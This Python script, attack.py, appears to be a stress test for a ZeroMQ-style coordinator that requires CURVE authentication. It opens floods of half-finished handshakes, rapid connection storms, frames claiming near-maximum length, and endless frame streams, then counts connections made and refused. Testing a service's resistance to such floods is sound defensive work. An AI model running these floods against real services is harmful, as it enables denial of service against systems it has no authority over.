"""attack.py HOST PORT SECONDS KIND - what somebody without a key can do to a coordinator that wants one, as fast as it can:

half     handshakes that are begun and never finished, held until it hangs up
storm    connections that are closed at once, some after noise
large    handshakes whose first frame claims to be as long as any message may be, and almost is
endless  a handshake that claims to have no security, or begins CURVE, and then frames without end

Says when the first connection is made. At the end, which may be a SIGTERM, it prints how many it made, and how many of
them were broken off or not made at all."""
import os
import signal
import socket
import struct
import sys
import time

HOST, PORT, SECONDS, KIND = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), sys.argv[4]
HELD = 5000  # connections that one attacker keeps open


def greeting(mechanism):
    return b"\xff" + bytes(8) + b"\x7f\x03\x01" + mechanism.ljust(20, b"\0") + bytes(32)


def ready():
    body = b"\x05READY" + b"\x0bSocket-Type" + struct.pack(">I", 6) + b"DEALER"
    return b"\x04" + bytes([len(body)]) + body


def hello():
    """As long as a HELLO of CURVE is, with a box that nobody can open."""
    body = b"\x05HELLO\x01\x00" + bytes(72) + os.urandom(32) + bytes(8) + os.urandom(80)
    return b"\x04" + bytes([len(body)]) + body


def half(peer, turn, held):
    peer.sendall([b"", b"\xff", greeting(b"CURVE")[:20], greeting(b"CURVE"), greeting(b"CURVE") + hello()[:100]][turn % 5])
    held.append(peer)
    if len(held) > HELD:
        held.pop(0).close()


def large(peer, turn, held):
    peer.sendall(greeting(b"CURVE") + b"\x06" + struct.pack(">Q", 4000000) + bytes(3999000))
    held.append(peer)
    if len(held) > 100:
        held.pop(0).close()


def storm(peer, turn, held):
    if turn % 2:
        peer.sendall(os.urandom(64))
    peer.close()


def endless(peer, turn, held):
    peer.settimeout(0.2)
    part = b"\x03" + struct.pack(">Q", 60000) + bytes(60000)  # more to come, always
    peer.sendall(greeting(b"NULL") + ready() if turn % 2 else greeting(b"CURVE") + hello())
    while time.monotonic() < until:
        peer.sendall(part)
    peer.close()


attack = {"half": half, "large": large, "storm": storm, "endless": endless}[KIND]
signal.signal(signal.SIGTERM, lambda *_: sys.exit())
until = time.monotonic() + SECONDS
made = refused = 0
held = []


def attack_once():
    global made, refused
    try:
        peer = socket.create_connection((HOST, PORT), timeout=2)
        made += 1
        if made == 1:
            print("begun", flush=True)
        attack(peer, made, held)
    except OSError:
        refused += 1


try:
    while time.monotonic() < until:
        attack_once()
finally:
    print(f"{KIND}: {made} connections, {refused} broken off")
